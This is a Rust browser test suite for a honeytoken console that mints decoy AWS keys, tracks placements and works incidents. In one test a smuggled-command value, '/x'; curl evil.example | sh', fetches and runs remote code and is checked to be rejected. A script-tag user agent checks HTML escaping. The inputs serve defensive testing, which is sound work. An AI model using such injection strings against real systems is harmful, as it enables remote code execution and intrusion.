//! The web UI in a real browser: headless Chromium driven over WebDriver
//! (chromedriver), against a real `honeytrail serve` and moto's IAM.
//!
//! Needs `chromium` and `chromium-driver` (./scripts/test installs them).

use std::process::{Child, Command, Stdio};
use std::time::Duration;

use honeytrail_testkit::Moto;
use serde_json::{json, Value};

mod common;
use common::*;

const ELEMENT: &str = "element-6066-11e4-a52e-4f735466cecf";

/// A chromedriver process and one headless Chromium session.
struct Browser {
    driver: Child,
    port: u16,
    session: String,
    base: String,
    _profile: tempfile::TempDir,
}

impl Browser {
    fn start(base: String) -> Browser {
        // Port 0: chromedriver says which port it got ("… started successfully on port N.").
        // It picks that port itself, and on a busy machine another process
        // may take it first ("IPv4 port not available. Exiting..."): then it
        // exits, and is started again.
        let mut attempts = 0;
        let (driver, port) = loop {
            let mut cmd = Command::new("chromedriver");
            cmd.arg("--port=0").stderr(Stdio::null());
            let started =
                honeytrail_testkit::spawn_reporting_port(&mut cmd, honeytrail_testkit::Stream::Stdout, |line| {
                    line.split("started successfully on port ").nth(1)?.trim_end_matches('.').trim().parse().ok()
                });
            attempts += 1;
            match started {
                Ok(started) => break started,
                Err(said) if said.contains("port not available") && attempts < 5 => continue,
                Err(said) => panic!("chromedriver did not start (apt-get install -y chromium chromium-driver): {said}"),
            }
        };
        let profile = tempfile::tempdir().unwrap();
        let caps = json!({"capabilities": {"alwaysMatch": {
            "browserName": "chrome",
            "goog:chromeOptions": {
                "binary": "/usr/bin/chromium",
                "args": ["--headless", "--no-sandbox", "--disable-gpu", "--disable-background-networking",
                         "--disable-component-update", "--disable-sync", "--disable-dev-shm-usage",
                         format!("--user-data-dir={}", profile.path().display())]
            }
        }}});
        let mut session = None;
        for _ in 0..100 {
            if let Ok((200, body)) = honeytrail_testkit::http(
                port,
                "POST",
                "/session",
                &[("Content-Type", "application/json")],
                &caps.to_string(),
            ) {
                let v: Value = serde_json::from_str(&body).unwrap();
                session = Some(v["value"]["sessionId"].as_str().unwrap().to_string());
                break;
            }
            std::thread::sleep(Duration::from_millis(100));
        }
        let session = session.expect("chromedriver started a Chromium session");
        Browser { driver, port, session, base, _profile: profile }
    }

    fn cmd(&self, method: &str, path: &str, body: Value) -> Value {
        let (status, text) = honeytrail_testkit::http(
            self.port,
            method,
            &format!("/session/{}{path}", self.session),
            &[("Content-Type", "application/json")],
            &if method == "GET" { String::new() } else { body.to_string() },
        )
        .unwrap();
        let v: Value = serde_json::from_str(&text).unwrap_or(Value::Null);
        assert_eq!(status, 200, "WebDriver {method} {path}: {text}");
        v["value"].clone()
    }

    fn go(&self, path: &str) {
        self.cmd("POST", "/url", json!({"url": format!("{}{path}", self.base)}));
    }

    fn find_all(&self, css: &str) -> Vec<String> {
        let found = self.cmd("POST", "/elements", json!({"using": "css selector", "value": css}));
        found
            .as_array()
            .unwrap_or_else(|| panic!("finding {css}: {found}"))
            .iter()
            .map(|e| e[ELEMENT].as_str().unwrap_or_else(|| panic!("element {e}")).to_string())
            .collect()
    }

    fn find(&self, css: &str) -> String {
        for _ in 0..50 {
            if let Some(e) = self.find_all(css).into_iter().next() {
                return e;
            }
            std::thread::sleep(Duration::from_millis(100));
        }
        panic!("no element {css} on {}:\n{}", self.url(), self.source());
    }

    fn has(&self, css: &str) -> bool {
        !self.find_all(css).is_empty()
    }

    fn fill(&self, css: &str, text: &str) {
        let e = self.find(css);
        self.cmd("POST", &format!("/element/{e}/clear"), json!({}));
        self.cmd("POST", &format!("/element/{e}/value"), json!({"text": text}));
    }

    /// Chooses an option of a `<select>` by its value.
    fn select(&self, css: &str, value: &str) {
        self.find(css);
        let script = "const s = document.querySelector(arguments[0]); s.value = arguments[1]; return s.value;";
        let chosen = self.cmd("POST", "/execute/sync", json!({"script": script, "args": [css, value]}));
        assert_eq!(chosen, value, "{css} has no option {value}");
    }

    /// Clicks something that loads a new page, and waits for it to load.
    fn click(&self, css: &str) {
        let e = self.find(css);
        self.cmd("POST", &format!("/element/{e}/click"), json!({}));
        for _ in 0..100 {
            let (status, _) = honeytrail_testkit::http(
                self.port,
                "GET",
                &format!("/session/{}/element/{e}/enabled", self.session),
                &[],
                "",
            )
            .unwrap();
            if status != 200 {
                break; // stale: the old page is gone
            }
            std::thread::sleep(Duration::from_millis(50));
        }
        for _ in 0..100 {
            let ready = self.cmd("POST", "/execute/sync", json!({"script": "return document.readyState", "args": []}));
            if ready == "complete" {
                return;
            }
            std::thread::sleep(Duration::from_millis(50));
        }
    }

    /// Clicks something that stays on the page (a download).
    fn click_here(&self, css: &str) {
        let e = self.find(css);
        self.cmd("POST", &format!("/element/{e}/click"), json!({}));
    }

    fn text(&self, css: &str) -> String {
        let e = self.find(css);
        self.cmd("GET", &format!("/element/{e}/text"), json!({})).as_str().unwrap_or("").to_string()
    }

    fn source(&self) -> String {
        self.cmd("GET", "/source", json!({})).as_str().unwrap_or("").to_string()
    }

    fn url(&self) -> String {
        self.cmd("GET", "/url", json!({})).as_str().unwrap_or("").to_string()
    }

    /// Signs in; a first sign-in with a one-time password chooses a new one.
    fn sign_in(&self, user: &str, password: &str, new_password: &str) {
        self.go("/login");
        self.fill("#user", user);
        self.fill("#password", password);
        self.click("#sign-in");
        if self.url().ends_with("/account") {
            self.fill("#current", password);
            self.fill("#new", new_password);
            self.fill("#repeat", new_password);
            self.click("#change-password");
        }
        assert!(!self.url().contains("/login"), "signed in as {user}: {}", self.source());
    }

    fn sign_out(&self) {
        self.click("#logout");
        assert!(self.url().ends_with("/login"));
    }
}

impl Drop for Browser {
    fn drop(&mut self) {
        // Ending the WebDriver session is a courtesy; the driver is killed next anyway.
        drop(honeytrail_testkit::http(self.port, "DELETE", &format!("/session/{}", self.session), &[], ""));
        self.driver.kill().ok(); // already gone is fine
        self.driver.wait().ok(); // already gone is fine
    }
}

#[test]
fn a_responder_works_an_incident_in_the_browser_and_a_viewer_cannot() {
    let moto = Moto::start();
    let mut env = Env::new();
    env.moto = Some(moto.endpoint.clone());
    let admin = add_user(&env, "alice", "admin");
    let employee = add_user(&env, "erin", "employee");
    let server = Server::start(&env, &[("HONEYTRAIL_EVENTBRIDGE_SECRET", "eb-secret-for-tests-0123456789abcdef")]);
    let b = Browser::start(format!("http://127.0.0.1:{}", server.port));

    // Log in (choosing a password), mint a token in the canary account.
    b.sign_in("alice", &admin, "alice's long passphrase");
    b.go("/tokens");
    b.fill("#mint-labels", "team=payments");
    b.fill("#mint-memo", "Maria's laptop");
    b.click("#mint");
    let key = b.text("#token-key");
    assert!(key.starts_with("AKIA") && key.len() == 20, "{key}");

    // Add a placement, render a bait file.
    b.fill("#placement-host", "maria-mbp");
    b.fill("#placement-path", "~/.aws/credentials");
    b.fill("#placement-owner", "Maria");
    b.fill("#placement-asset", "MacBook Pro");
    b.click("#add-placement");
    assert!(b.text("#token-sentence").contains("Maria's MacBook Pro"), "{}", b.source());
    b.click_here("#download-bait");
    // The download is recorded as a custody hop when the server has served it.
    let start = std::time::Instant::now();
    loop {
        b.go(&format!("/tokens/{key}"));
        if b.source().contains("rendered as aws-credentials") || start.elapsed() > Duration::from_secs(30) {
            break;
        }
        std::thread::sleep(Duration::from_millis(200));
    }
    assert!(
        b.source().contains("rendered as aws-credentials in the honeytrail web UI/API for alice"),
        "{}",
        b.source()
    );

    // Feed an event through the EventBridge endpoint; the incident appears.
    let user = env.run(&["token", "show", &key, "--json"]).ok().json()["iam_user_name"].as_str().unwrap().to_string();
    let event = json!({
        "version": "0", "id": "eb-browser-1", "detail-type": "AWS API Call via CloudTrail", "source": "aws.sts",
        "account": "123456789012", "time": "2026-11-28T09:00:00Z", "region": "us-east-1", "resources": [],
        "detail": trail_record(&key, &user, "browser-1", "2026-11-28T09:00:00Z", "sts.amazonaws.com", "GetCallerIdentity", None)
    });
    let (status, body) = server.call(
        "POST",
        "/ingest/eventbridge",
        &[("Content-Type", "application/json"), ("x-honeytrail-secret", "eb-secret-for-tests-0123456789abcdef")],
        &event.to_string(),
    );
    assert_eq!(status, 202, "{body}");
    b.go("/");
    b.click("a[href='/incidents/1']");
    assert_eq!(b.text("#incident-state"), "open");
    assert!(b.text("#placement-sentence").contains("Maria's MacBook Pro"));
    assert!(b.text("#runbook").contains("Rule out a false positive"));

    // Acknowledge, add a note, mark it a false positive.
    b.fill("#note-acknowledged", "looking into it");
    b.click("#action-acknowledged");
    assert_eq!(b.text("#incident-state"), "acknowledged");
    b.fill("#note-text", "Maria says she ran aws sts get-caller-identity to test");
    b.click("#add-note");
    assert!(b.source().contains("Maria says she ran aws sts get-caller-identity to test"));
    b.click("#action-false-positive");
    assert_eq!(b.text("#incident-state"), "false-positive");

    // An admin adds a viewer; the viewer can look but not act.
    b.go("/users");
    b.fill("#new-user", "victor");
    b.click("#add-user");
    let viewer = b.text("#one-time-password");
    // And an enrolment secret for a fleet of web servers, then revokes it.
    b.go("/enrollments");
    b.fill("#enroll-uses", "25");
    b.fill("#enroll-labels", "fleet=web");
    b.select("#enroll-template", "laptop");
    b.click("#create-enrollment");
    let enrolment = b.text("#enrollment-secret");
    assert!(enrolment.len() >= 40, "{enrolment}");
    let listed = env.run(&["enroll", "list", "--json"]).ok().json();
    assert_eq!((listed[0]["uses"].as_i64(), listed[0]["labels"]["fleet"].as_str()), (Some(25), Some("web")));
    assert_eq!(listed[0]["template"], "laptop");
    b.go("/enrollments");
    assert!(!b.source().contains(&enrolment), "shown once only");
    let id = listed[0]["id"].as_i64().unwrap();
    b.click(&format!("#revoke-{id}"));
    assert!(b.text(&format!("#enrollment-{id} .state")).contains("revoked"), "{}", b.source());

    // The Deploy page renders a Terraform snippet naming the SSM parameter, never a secret;
    // a hostile secret name is refused with the reason, not rendered.
    b.go("/deploy");
    b.select("#snippet-kind", "terraform");
    b.fill("#snippet-secret-name", "/ops/web/enrolment");
    b.click("#render-snippet");
    let snippet = b.text("#snippet");
    assert!(snippet.contains("aws_launch_template") && snippet.contains("parameter/ops/web/enrolment"), "{snippet}");
    assert!(!snippet.contains(&enrolment), "the snippet holds the secret");
    b.fill("#snippet-secret-name", "/x'; curl evil.example | sh");
    b.click("#render-snippet");
    assert!(b.text("#snippet-error").contains("SSM parameter name"), "{}", b.source());
    assert!(!b.has("#snippet"));
    // The Fleet page shows the pool and says how to start.
    b.go("/fleet");
    assert!(b.has("#pool-size") && b.source().contains("No host has enrolled yet"), "{}", b.source());
    b.sign_out();
    b.sign_in("victor", &viewer, "victor's long passphrase");
    b.go("/incidents/1");
    assert_eq!(b.text("#incident-state"), "false-positive");
    for control in ["#action-confirmed", "#action-resolved", "#add-note", "#note-text"] {
        assert!(!b.has(control), "a viewer sees {control}");
    }
    b.go(&format!("/tokens/{key}"));
    for control in ["#retire", "#download-bait", "#add-placement"] {
        assert!(!b.has(control), "a viewer sees {control}");
    }
    b.go("/tokens");
    assert!(!b.has("#mint") && !b.has("#import"));
    b.go("/users");
    assert!(b.source().contains("Not allowed"));
    b.go("/");
    b.sign_out();

    // An employee reports a key they found.
    b.sign_in("erin", &employee, "erin's long passphrase");
    assert!(b.url().ends_with("/lookup"), "{}", b.url());
    b.go("/");
    assert!(b.url().ends_with("/lookup"), "employees see only their page");
    b.fill("#lookup-text", &format!("[default]\naws_access_key_id = {key}\n"));
    b.fill("#lookup-where", "a USB stick in the lobby");
    b.click("#lookup");
    assert!(b.text("#lookup-result").contains("monitored decoy credential"), "{}", b.source());
    let incidents = env.run(&["incident", "list", "--all", "--json"]).ok().json();
    let report =
        incidents.as_array().unwrap().iter().find(|i| i["kind"] == "report").expect("a report incident").clone();
    assert_eq!(report["access_key_id"], key);
    let shown = env.run(&["incident", "show", &report["id"].to_string(), "--json"]).ok().json();
    assert!(shown["history"][0]["note"].as_str().unwrap().contains("a USB stick in the lobby"));
    b.go("/incidents/1");
    assert!(b.source().contains("Not allowed"), "an employee cannot read incidents");
}

/// Fills and sends the Response page's form for a signed webhook action.
fn add_webhook_action(b: &Browser, name: &str, mode: &str, url: &str, secret: &str) {
    b.fill("#add-action input[name=name]", name);
    b.click_here("#kind-webhook");
    b.select("#action-mode", mode);
    b.fill("#add-action input[name=url]", url);
    b.fill("#add-action input[name=secret]", secret);
    b.click("#add-action-button");
}

#[test]
fn a_responder_approves_an_action_on_the_incident_page_and_a_viewer_cannot() {
    let env = Env::new();
    let admin = add_user(&env, "alice", "admin");
    let viewer = add_user(&env, "victor", "viewer");
    let receiver = Receiver::start(0, vec![]);
    // The receiver is on loopback: response actions reach it only when listed.
    let server = Server::start(&env, &[("HONEYTRAIL_ALERTS_ALLOWED_HOSTS", "127.0.0.1")]);
    let b = Browser::start(format!("http://127.0.0.1:{}", server.port));

    // An admin adds a signed webhook action that waits for approval.
    b.sign_in("alice", &admin, "alice's long passphrase");
    b.go("/actions");
    assert!(b.source().contains("No actions yet"), "{}", b.source());
    add_webhook_action(
        &b,
        "notify-soar",
        "approval",
        &format!("http://127.0.0.1:{}/respond", receiver.port),
        "a-signing-secret-for-tests",
    );
    assert!(b.text("#action-notify-soar").contains("approval"), "{}", b.source());
    assert!(!b.source().contains("a-signing-secret-for-tests"), "the secret is not shown");

    // A key is used: the incident shows the run waiting for a responder.
    let k = honeytrail_core::keyid::synthesize(123456789012, 4242);
    env.run(&["token", "import", "aws", "--access-key-id", &k, "--user-name", "svc-reader"]).ok();
    let record =
        trail_record(&k, "svc-reader", "ui-1", "2026-11-30T10:00:00Z", "sts.amazonaws.com", "GetCallerIdentity", None);
    ingest_records(&env, vec![record]);
    let waiting = (0..100).any(|_| {
        b.go("/incidents/1");
        b.has("#approve-run-1") || {
            std::thread::sleep(Duration::from_millis(200));
            false
        }
    });
    assert!(waiting, "the run never waited for approval: {}", b.source());
    assert!(b.text("#response").contains("awaiting-approval"), "{}", b.source());
    assert_eq!(receiver.requests.lock().unwrap().len(), 0, "nothing was sent before approval");
    b.sign_out();

    // A viewer sees the run and cannot approve it.
    b.sign_in("victor", &viewer, "victor's long passphrase");
    b.go("/incidents/1");
    assert!(b.text("#response").contains("notify-soar"));
    for control in ["#approve-run-1", "#cancel-run-1"] {
        assert!(!b.has(control), "a viewer sees {control}");
    }
    b.go("/actions");
    assert!(!b.has("#add-action") && !b.has("#set-mode-notify-soar"), "a viewer can change actions");
    b.sign_out();

    // The admin approves on the incident page; the server runs it at once.
    b.sign_in("alice", "alice's long passphrase", "unused");
    b.go("/incidents/1");
    b.click("#approve-run-1");
    assert!(b.url().ends_with("/incidents/1"), "back on the incident: {}", b.url());
    let done = (0..100).any(|_| {
        b.go("/incidents/1");
        b.text("#run-1 .state") == "done" || {
            std::thread::sleep(Duration::from_millis(200));
            false
        }
    });
    assert!(done, "the approved run did not run: {}", b.source());
    assert_eq!(receiver.requests.lock().unwrap().len(), 1);
    assert!(b.source().contains("notify-soar approved by alice"), "on the timeline: {}", b.source());
    assert!(!b.has("#approve-run-1"), "approved once");

    // The Response page lists the run and turns the action off.
    b.go("/actions?state=done");
    assert!(b.has("#run-1"), "{}", b.source());
    b.select("#mode-notify-soar", "off");
    b.click("#set-mode-notify-soar");
    assert!(b.text("#action-notify-soar").contains("off"), "{}", b.source());
    // An action with runs keeps its history: removing it is refused, naming the fix.
    b.click("#remove-notify-soar");
    assert!(b.source().contains("has runs on incidents") && b.source().contains("--mode off"), "{}", b.source());
    // One that never ran can go.
    b.go("/actions");
    add_webhook_action(
        &b,
        "spare",
        "dry-run",
        &format!("http://127.0.0.1:{}/spare", receiver.port),
        "another-signing-secret-for-tests",
    );
    assert!(b.text("#action-spare").contains("dry-run"), "{}", b.source());
    b.click("#remove-spare");
    assert!(!b.has("#action-spare") && b.has("#action-notify-soar"), "{}", b.source());
    let audit = env.run(&["audit", "list", "--json"]).ok().stdout;
    for what in ["action.add", "action.approve", "action.mode", "action.remove"] {
        assert!(audit.contains(what), "{what} is not in the audit log: {audit}");
    }
}

impl Browser {
    /// Sets the window's size, as a laptop or a phone would have it.
    fn resize(&self, width: u32, height: u32) {
        self.cmd("POST", "/window/rect", json!({"width": width, "height": height}));
    }

    fn script(&self, script: &str) -> Value {
        self.cmd("POST", "/execute/sync", json!({"script": script, "args": []}))
    }

    /// Saves a screenshot into $HONEYTRAIL_SCREENSHOTS, when it is set (for review).
    fn screenshot(&self, name: &str) {
        let Ok(dir) = std::env::var("HONEYTRAIL_SCREENSHOTS") else { return };
        use base64::Engine;
        let png = self.cmd("GET", "/screenshot", json!({}));
        let bytes = base64::engine::general_purpose::STANDARD.decode(png.as_str().unwrap()).unwrap();
        std::fs::create_dir_all(&dir).unwrap();
        std::fs::write(std::path::Path::new(&dir).join(format!("{name}.png")), bytes).unwrap();
    }
}

/// What [`populate`] made: the admin's password and the pages with an ID in them.
struct Populated {
    admin_password: String,
    incidents: Vec<i64>,
    keys: Vec<String>,
}

/// A user agent an intruder wrote: markup, a reversing mark, a scanner's name.
const HOSTILE_AGENT: &str = "TruffleHog <script>alert(1)</script> \u{202e}gpj.exe";

/// A store with data of every shape the console shows: tokens in each state
/// with labels, placements, custody, incidents of several kinds and
/// severities with events from hostile user agents, notes and state moves,
/// a channel and a dead-end delivery, an action and its runs, users and API
/// tokens, an enrolled host, a canary account, audit entries.
/// Enrols a host over the API as its agent would and confirms one bait
/// file; the enrolment's answer.
fn enrol_and_confirm(server: &Server, secret: &str, host: Value) -> Value {
    let body = json!({"secret": secret, "host": host});
    let (status, body) =
        server.call("POST", "/api/v1/fleet/enroll", &[("Content-Type", "application/json")], &body.to_string());
    assert_eq!(status, 201, "{body}");
    let enrolled: Value = serde_json::from_str(&body).unwrap();
    server.confirm_placed(&enrolled);
    enrolled
}

fn populate(env: &Env, moto: &Moto) -> (Populated, Server) {
    env.run(&["init"]).ok();
    let admin_password = add_user(env, "ada", "admin");
    add_user(env, "vic", "viewer");
    add_user(env, "erin", "employee");
    env.run(&["user", "token", "ada", "--for", "console tests"]).ok();
    let keys = [KEY, "AKIAQYLPMN5HHHFPZAM2", "AKIASP2TPHJSQH3FJRUX", "AKIA2OGYBAH6STMMNXNN"];
    let lines = format!(
        "{{\"access_key_id\":\"{}\",\"secret_access_key\":\"{SECRET}\",\"user_name\":\"payments-sync\",\"labels\":{{\"team\":\"payments\"}},\"memo\":\"<b>laptops</b>\"}}\n\
         {{\"access_key_id\":\"{}\",\"user_name\":\"ci-deploy\",\"labels\":{{\"severity\":\"medium\"}},\"host\":\"ci-runner-3\",\"path\":\"/etc/ci/deploy.env\",\"owner\":\"infra <i>team</i>\",\"format\":\"dotenv\"}}\n\
         {{\"access_key_id\":\"{}\",\"memo\":\"found by an employee\"}}\n\
         {{\"access_key_id\":\"{}\",\"memo\":\"retired before use\"}}\n",
        keys[0], keys[1], keys[2], keys[3]
    );
    let file = env.dir.path().join("keys.jsonl");
    std::fs::write(&file, lines).unwrap();
    env.run(&["token", "import", "aws", "--from", file.to_str().unwrap()]).ok();
    env.run(&[
        "placement",
        "add",
        KEY,
        "--host",
        "maria-mbp",
        "--path",
        "~/.aws/credentials",
        "--owner",
        "Maria <b>L</b>",
        "--asset",
        "MacBook Pro",
        "--format",
        "aws-credentials",
    ])
    .ok();
    env.run(&["placement", "add", KEY, "--host", "build-7", "--path", "/srv/app/.env"]).ok();
    env.run(&["custody", "add", KEY, "sent by email to maria@example.com"]).ok();
    env.run(&["token", "retire", keys[3]]).ok();
    let dead = honeytrail_testkit::dead_port();
    env.run(&["channel", "add", "webhook", "soc", "--url", &format!("http://127.0.0.1:{dead}/hook")]).ok();
    let action = env
        .command(&[
            "action",
            "add",
            "notify",
            "--kind",
            "webhook",
            "--mode",
            "approval",
            "--secret",
            "a signing secret of 32 chars!!",
        ])
        .args(["--url", &format!("http://127.0.0.1:{dead}/act")])
        .env("HONEYTRAIL_ALERTS_ALLOWED_HOSTS", "127.0.0.1")
        .output()
        .unwrap();
    assert!(action.status.success(), "{}", String::from_utf8_lossy(&action.stderr));
    env.run(&[
        "account",
        "add",
        "east",
        "--role-arn",
        "arn:aws:iam::111111111111:role/honeytrail",
        "--max-users",
        "40",
    ])
    .ok();

    // Use of the first key over an hour, from two addresses in two regions,
    // by a scanner whose user agent is hostile text; one call of the second
    // key that failed; a call of the retired key.
    let mut records = Vec::new();
    for n in 0..40 {
        let t = format!("2026-11-28T09:{:02}:{:02}Z", n + 10, n % 60);
        let name = ["GetCallerIdentity", "ListBuckets", "ListUsers", "DescribeInstances"][n % 4];
        let source = ["sts", "s3", "iam", "ec2"][n % 4];
        let mut r =
            trail_record(KEY, "payments-sync", &format!("c-{n}"), &t, &format!("{source}.amazonaws.com"), name, None);
        r["userAgent"] = HOSTILE_AGENT.into();
        if n % 3 == 0 {
            r["sourceIPAddress"] = "203.0.113.9".into();
            r["awsRegion"] = "eu-west-1".into();
        }
        records.push(r);
    }
    records.push(trail_record(
        keys[1],
        "ci-deploy",
        "c-ci",
        "2026-11-29T10:00:00Z",
        "s3.amazonaws.com",
        "ListBuckets",
        Some("AccessDenied"),
    ));
    records.push(trail_record(
        keys[3],
        "old",
        "c-old",
        "2026-11-30T10:00:00Z",
        "sts.amazonaws.com",
        "GetCallerIdentity",
        None,
    ));
    ingest_records(env, records);
    env.run(&["incident", "ack", "1", "--note", "on it <b>now</b>"]).ok();
    env.run(&["incident", "note", "2", "owner says: \u{202e}not me"]).ok();
    env.run(&["incident", "resolve", "3", "--note", "old key"]).ok();

    // A host enrols and confirms its bait.
    let mut fill = env.command(&["fleet", "pool", "--fill"]);
    fill.env("HONEYTRAIL_FLEET_POOL_SIZE", "1");
    assert!(fill.output().unwrap().status.success());
    let secret = env.run(&["enrol", "create", "--uses", "2"]).ok().stdout.trim().to_string();
    let server = Server::start(env, &[]);
    let host = json!({"hostname": "web-<b>1</b>", "machine_id": "0123456789abcdef0123456789abcdef"});
    let enrolled = enrol_and_confirm(&server, &secret, host);
    // A second host with a session canary (moto hands out the honey role's
    // sessions), and a decoy bucket, so the Fleet and Decoys pages show both.
    env.run(&[
        "template",
        "add",
        "web-session",
        "--format",
        "aws-credentials",
        "--path",
        "/root/.aws/credentials",
        "--profile",
        "prod",
        "--credential",
        "session",
    ])
    .ok();
    let session_secret =
        env.run(&["enrol", "create", "--uses", "1", "--template", "web-session"]).ok().stdout.trim().to_string();
    let session = enrol_and_confirm(&server, &session_secret, json!({"hostname": "cache-<b>2</b>"}));
    assert!(session["key"]["access_key_id"].as_str().unwrap().starts_with("ASIA"), "{session}");
    assert!(session["key"]["session"]["token"].is_string(), "{session}");
    let inventory = env.dir.path().join("inventory.txt");
    std::fs::write(&inventory, "s3-bucket acme-ledger-exports\n").unwrap();
    env.run(&["decoy", "apply", "--count", "s3-bucket=1", "--inventory", inventory.to_str().unwrap()]).ok();
    let _ = moto;

    let incidents = env.run(&["incident", "list", "--all", "--json"]).ok().json();
    let incidents: Vec<i64> = incidents.as_array().unwrap().iter().map(|i| i["id"].as_i64().unwrap()).collect();
    assert!(incidents.len() >= 3, "{incidents:?}");
    let keys =
        keys.iter().map(|k| k.to_string()).chain([enrolled["key"]["access_key_id"].as_str().unwrap().to_string()]);
    (Populated { admin_password, incidents, keys: keys.collect() }, server)
}

/// Every page the console serves, with its IDs filled in from `p`; fails
/// when `crates/server/src/ui/mod.rs` declares a page this does not know.
fn every_page(p: &Populated) -> Vec<String> {
    let source = include_str!("../crates/server/src/ui/mod.rs");
    let declared: Vec<&str> = source
        .split(".route(\"")
        .skip(1)
        .filter(|r| r.split_once(',').is_some_and(|(_, rest)| rest.trim_start().starts_with("get(")))
        .map(|r| r.split('"').next().unwrap())
        .collect();
    assert!(declared.len() > 20, "{declared:?}");
    let mut pages = Vec::new();
    for route in declared {
        match route {
            "/incidents/{id}" | "/incidents/{id}/events" => {
                pages.extend(p.incidents.iter().map(|id| route.replace("{id}", &id.to_string())))
            }
            "/tokens/{key}" => pages.extend(p.keys.iter().map(|k| route.replace("{key}", k))),
            "/docs/{name}" => pages.extend(["actions.md", "fleet.md"].map(|n| route.replace("{name}", n))),
            r if !r.contains('{') => pages.push(r.to_string()),
            other => panic!("a page this test does not visit: {other}; add it to every_page"),
        }
    }
    pages.push("/account".into());
    pages.push("/incidents?unresolved=true".into());
    pages
}

/// Visits every page over HTTP as the admin; each renders, shows the
/// intruder's text escaped, and lists severity where incidents are listed.
fn every_page_renders(server: &Server, p: &Populated) {
    let cookie = ui_cookie(server, "ada", &p.admin_password);
    for path in every_page(p) {
        let (status, html) = server.call("GET", &path, &[("Cookie", &cookie)], "");
        assert_eq!(status, 200, "{path}: {html}");
        if path.ends_with(".csv") {
            continue;
        }
        assert!(!html.contains("failed to render"), "{path}: {html}");
        assert!(
            !html.contains("<script") && !html.contains("<b>") && !html.contains('\u{202e}'),
            "{path} escapes: {html}"
        );
    }
    let (_, html) = server.call("GET", "/incidents/1", &[("Cookie", &cookie)], "");
    assert!(html.contains("id=\"incident-severity\">critical<"), "a scanner raised high to critical: {html}");
    assert_eq!(html.matches("<svg class=\"chart\"").count(), 4, "events over time and three breakdowns: {html}");
    assert!(html.contains("mark-first") && html.contains("TruffleHog &lt;script&gt;alert(1)"), "{html}");
    assert!(html.contains("ListBuckets: 10</title>") && html.contains("203.0.113.9: 14</title>"), "{html}");
    let (_, html) = server.call("GET", "/incidents", &[("Cookie", &cookie)], "");
    for severity in ["critical", "medium"] {
        assert!(html.contains(&format!("class=\"sev sev-{severity}\"")), "{severity} listed: {html}");
    }
    let (_, html) = server.call("GET", "/", &[("Cookie", &cookie)], "");
    assert_eq!(html.matches("<svg class=\"chart\"").count(), 4, "{html}");
    assert!(html.contains("critical: 1</title>"), "open incidents by severity: {html}");
    let (_, html) = server.call("GET", "/fleet", &[("Cookie", &cookie)], "");
    assert!(html.contains("active: 2</title>") && html.contains("<polygon"), "hosts by state, bait over time: {html}");
    assert!(html.contains("session canary, expires") && html.contains("Refresh session"), "{html}");
    let (_, html) = server.call("GET", "/decoys", &[("Cookie", &cookie)], "");
    assert!(html.contains("acme-ledger-exports"), "the decoy is listed: {html}");
    // Every link to a token opens it: those known by an ARN (decoys, the
    // honey role of session canaries: `…:role/app-instance-role`) too.
    let mut links = std::collections::BTreeSet::new();
    for page in ["/tokens", "/placements", "/fleet", "/decoys", "/ci", "/incidents/1"] {
        let (_, html) = server.call("GET", page, &[("Cookie", &cookie)], "");
        for part in html.split("href=\"/tokens/").skip(1) {
            // As the browser reads the attribute: entities decoded.
            let href = part.split('"').next().unwrap().replace("&#x2f;", "/").replace("&amp;", "&");
            links.insert(format!("/tokens/{href}"));
        }
    }
    let (_, tokens) = server.call("GET", "/tokens", &[("Cookie", &cookie)], "");
    assert!(tokens.contains("role&#x2f;app-instance-role"), "the honey role is a token: {tokens}");
    assert!(links.len() >= 7, "{links:?}");
    for link in links {
        let (status, html) = server.call("GET", &link, &[("Cookie", &cookie)], "");
        assert_eq!(status, 200, "{link}: {html}");
    }
}

#[test]
fn every_page_renders_with_data_of_every_shape_on_sqlite_and_fits_a_laptop_and_a_phone() {
    let moto = Moto::start();
    let mut env = Env::new();
    env.moto = Some(moto.endpoint.clone());
    let (p, server) = populate(&env, &moto);
    every_page_renders(&server, &p);

    // In Chromium: nothing wider than the window at 1 024 px or on a phone;
    // on a phone the menu opens from its button.
    let b = Browser::start(format!("http://127.0.0.1:{}", server.port));
    b.sign_in("ada", UI_PASSWORD, "unused: the password was chosen already");
    let overflow = "return [document.documentElement.scrollWidth, window.innerWidth, \
                    document.querySelector('header').scrollWidth, document.querySelector('header').clientWidth]";
    for (width, height, device) in [(1024, 768, "laptop"), (390, 844, "phone")] {
        b.resize(width, height);
        for path in every_page(&p) {
            if path.ends_with(".csv") {
                continue;
            }
            b.go(&path);
            let sizes = b.script(overflow);
            let n = |i: usize| sizes[i].as_i64().unwrap();
            assert!(n(0) <= n(1) && n(2) <= n(3), "{path} overflows at {width} px: {sizes}");
            let shot = path.trim_start_matches('/').replace(['/', '?', '=', '.'], "-");
            if matches!(
                path.as_str(),
                "/" | "/incidents/1" | "/fleet" | "/actions" | "/incidents" | "/tokens/AKIARZPUZDIKAWS2LJNF"
            ) {
                b.screenshot(&format!("{device}-{}", if shot.is_empty() { "dashboard" } else { &shot }));
                if b.has("#charts") && path != "/" {
                    b.script("document.getElementById('charts').scrollIntoView()");
                    b.screenshot(&format!("{device}-{shot}-charts"));
                }
            }
        }
    }
    assert!(!b.script("return document.querySelector('nav').offsetParent !== null").as_bool().unwrap(), "menu closed");
    b.click_here("label.menu");
    assert!(b.script("return document.querySelector('nav').offsetParent !== null").as_bool().unwrap(), "menu open");

    // The Response form shows the fields of the kind chosen.
    b.resize(1024, 768);
    b.go("/actions");
    let shown = |name: &str| {
        b.script(&format!("return document.querySelector('[name={name}]').offsetParent !== null")).as_bool().unwrap()
    };
    assert!(shown("instance_id") && !shown("url"), "quarantine-ec2 is the first kind");
    b.click_here("#kind-webhook");
    assert!(shown("url") && shown("secret") && !shown("instance_id") && !shown("policy_arn"));
    b.click_here("#kind-deny-policy");
    assert!(shown("policy_arn") && shown("iam_user") && !shown("url"));
}

#[tokio::test]
async fn every_page_renders_with_data_of_every_shape_on_postgres() {
    let moto = Moto::start();
    let mut env = Env::new();
    env.moto = Some(moto.endpoint.clone());
    env.database = Some(honeytrail_testkit::postgres_database().await);
    tokio::task::spawn_blocking(move || {
        let (p, server) = populate(&env, &moto);
        every_page_renders(&server, &p);
    })
    .await
    .unwrap();
}
